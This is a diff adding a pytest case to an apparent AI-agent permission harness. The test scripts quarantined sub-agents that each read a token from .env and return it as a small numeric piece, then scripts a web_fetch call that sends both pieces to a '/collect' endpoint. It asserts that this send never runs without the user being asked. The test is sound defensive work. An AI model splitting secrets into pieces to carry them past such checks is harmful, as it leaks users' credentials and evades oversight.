@@ -211,6 +211,44 @@ async def test_a_sub_agent_an_untrusted_project_defines_never_acts_for_it_unaske
     assert _asked(person, "k1")
 
 
+WORD_SCHEMA = {"type": "object", "additionalProperties": False,
+               "properties": {"n": {"type": "integer", "minimum": 0, "maximum": 2**31 - 1}}}
+
+
+class ApprovesSecretReads(ScriptedApprover):
+    """The person approves reading .env (they asked whether it is set up), declines the
+    rest."""
+
+    async def __call__(self, request: ApprovalRequest) -> ApprovalResponse:
+        self.requests.append(request)
+        if request.tool_name == "read_file":
+            return ApprovalResponse.approve()
+        return ApprovalResponse.decline("no")
+
+
+@pytest.mark.parametrize("mode", MODES)
+async def test_quarantined_children_never_carry_a_secret_out_in_pieces(
+        person: Harness, project: Path, docs: FakeWebServer, mode: PermissionMode) -> None:
+    """Each quarantined child reads .env and answers 31 bits of it (a number): each is "a
+    few bits", together they are the secret. The send of both pieces, to the person's own
+    docs host, never runs unasked."""
+    secret = "QX7731pw"
+    (project / ".env").write_text(f"TOKEN={secret}\n")
+    pieces = [int.from_bytes(secret[i:i + 3].encode(), "big") for i in (0, 3)]
+    steps: list[ToolUse | Response] = []
+    for n, piece in enumerate(pieces):
+        steps += [_create(f"q{n}", f"c{n}", tools=["read_file"], result_schema=WORD_SCHEMA),
+                  _execute(f"q{n}", f"e{n}", "Is TOKEN in .env set?"),
+                  tool("read_file", {"path": ".env"}, id=f"k{n}"),
+                  Response.text(f'{{"n": {piece}}}')]
+    steps.append(tool("web_fetch", {"url": docs.url(f"/collect?a={pieces[0]}&b={pieces[1]}")},
+                      id="toolu_9"))
+    person.approver = ApprovesSecretReads()
+    await _run(person, docs, mode, True, *steps)
+    assert not [r for r in docs.requests if r.path == "/collect"]
+    assert _asked(person, "toolu_9")
+
+
 def _harness(db: Any, project: Path, fake_anthropic: Any, provider: Any) -> Harness:
     """The harness's parts with ``provider``'s tools too; the person's reads of project
     files are allowed, as the app seeds them."""
